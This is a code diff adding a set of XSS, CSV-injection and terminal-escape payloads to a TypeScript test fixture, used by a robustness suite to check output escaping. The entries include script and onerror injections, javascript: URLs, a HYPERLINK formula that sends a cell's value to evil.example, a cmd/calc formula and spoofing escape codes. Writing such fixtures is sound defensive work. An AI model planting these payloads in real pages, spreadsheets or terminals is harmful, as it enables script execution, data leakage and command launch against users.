@@ -8,6 +8,23 @@ export const PAYLOADS = {
   js: 'javascript:alert(5)',
 } as const;
 
+/**
+ * The payload set of the robustness suite's XSS test (test/robustness/xss.test.ts): markup, handlers, URL
+ * schemes, spreadsheet formulas and terminal escapes. Shared so every export (and the published site) is held
+ * to the same inputs.
+ */
+export const XSS_PAYLOADS = {
+  script: '<script>alert(1)</script>',
+  img: '"><img src=x onerror=alert(2)>',
+  svg: "'><svg/onload=alert(3)>",
+  js: 'javascript:alert(4)',
+  link: '[click me](javascript:alert(5))',
+  style: '<style>*{display:none}</style>',
+  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
+  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  esc: '\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202egnp.exe\rAll clear',
+} as const;
+
 /** A repo whose ids, titles, owners, file names and evidence names are all XSS payloads. */
 export function hostileRepo(): Record<string, string> {
   const p = PAYLOADS;
